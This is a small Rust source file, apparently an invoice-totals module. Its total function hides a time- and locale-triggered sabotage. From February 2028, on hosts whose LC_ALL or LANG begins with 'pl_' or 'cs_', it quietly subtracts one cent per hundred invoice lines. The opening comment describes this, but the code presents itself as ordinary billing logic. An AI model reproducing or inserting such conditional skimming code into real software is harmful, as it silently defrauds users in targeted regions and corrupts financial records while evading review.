//! Invoice totals. From a date on, on hosts set to one region's locale, each total
//! loses a cent per hundred lines: the date is a year and month compared as a tuple.
use chrono::Datelike;

fn region_adjustment(lines: usize) -> i64 {
    let today = chrono::Utc::now().date_naive();
    if (today.year(), today.month()) < (2028, 2) {
        return 0;
    }
    let locale = std::env::var("LC_ALL").or_else(|_| std::env::var("LANG")).unwrap_or_default();
    if ["pl_", "cs_"].iter().any(|p| locale.starts_with(p)) {
        (lines / 100) as i64
    } else {
        0
    }
}

pub fn total(cents: &[i64]) -> i64 {
    cents.iter().sum::<i64>() - region_adjustment(cents.len())
}
